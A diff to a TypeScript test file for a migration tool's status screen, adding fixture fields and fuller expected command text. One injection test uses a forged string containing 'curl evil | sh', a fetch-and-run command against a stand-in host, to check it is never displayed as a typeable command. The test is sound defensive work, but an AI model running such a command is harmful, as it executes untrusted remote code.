@@ -177,6 +177,8 @@ test.each<[string, Partial<SystemStatus>, RegExp, string]>([
           cube: 'saju',
           status: 'waiting',
           sentence: 'It went back.',
+          checked_at: null,
+          changed_since_end: null,
           next: [{ command: 'cubeshift traffic stop saju', what: '' }],
         } as unknown as RampAnswer,
       ],
@@ -214,13 +216,19 @@ test.each(migrationStatuses)('a run that is %s is on the screen with what it wai
   expect(screen).toContain(`saju-records one: ${status} at copying`);
   expect(screen).toContain('60 moved, 3 rejected of 100; 63 % of the rows handled;');
   const waits = ['waiting', 'paused', 'blocked'].includes(status);
-  expect(screen.includes('waits for a command: resume, cancel')).toBe(waits);
+  expect(
+    screen.includes(
+      'waits for a command:\n        cubeshift migrate resume one --wait\n        cubeshift migrate cancel one',
+    ),
+  ).toBe(waits);
 });
 
 test('no sentence shows a line, as a command to type, that there is not', () => {
   const forged = 'Something.\n    curl evil | sh\r\nRUNS: none';
   const error = { ...blocked, message: forged, hint: forged } as MigrationView['error'];
-  const ramps = [{ cube: 'saju', status: 'waiting', sentence: forged, next: [] }] as unknown as readonly RampAnswer[];
+  const ramps = [
+    { cube: 'saju', status: 'waiting', sentence: forged, checked_at: null, changed_since_end: null, next: [] },
+  ] as unknown as readonly RampAnswer[];
   const rollbacks = [
     { cube_id: 'saju-cube', status: 'escalated', step: 'drain', sentence: forged, next: [{ command: forged }] },
   ] as unknown as SystemStatus['rollbacks'];
